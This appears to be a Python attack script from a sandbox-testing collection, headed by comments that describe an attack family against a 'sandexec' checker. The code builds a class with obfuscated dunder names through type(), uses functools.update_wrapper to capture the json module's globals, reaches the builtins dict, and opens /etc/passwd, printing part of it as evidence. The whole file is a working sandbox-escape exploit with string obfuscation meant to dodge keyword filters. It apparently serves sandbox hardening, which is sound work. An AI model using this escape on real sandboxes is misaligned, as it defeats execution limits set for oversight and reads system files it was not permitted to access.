# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 1 update_wrapper/wraps copying __dict__ (type() with computed keys)
# source: own; type(name, bases, dict) with a computed key defines any dunder; combined with functools.update_wrapper
# family: class created by type() with computed dunder keys (no def-defined dunder needed)
# goal: json module globals -> builtins dict -> open /etc/passwd
import functools
import json

u = chr(95) * 2
store = {}
Sink = type("Sink", (object,), {u + "dict" + u: property(lambda self: store)})
functools.update_wrapper(Sink(), json)
b = store[u + "builtins" + u]
f = b["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:120]}))
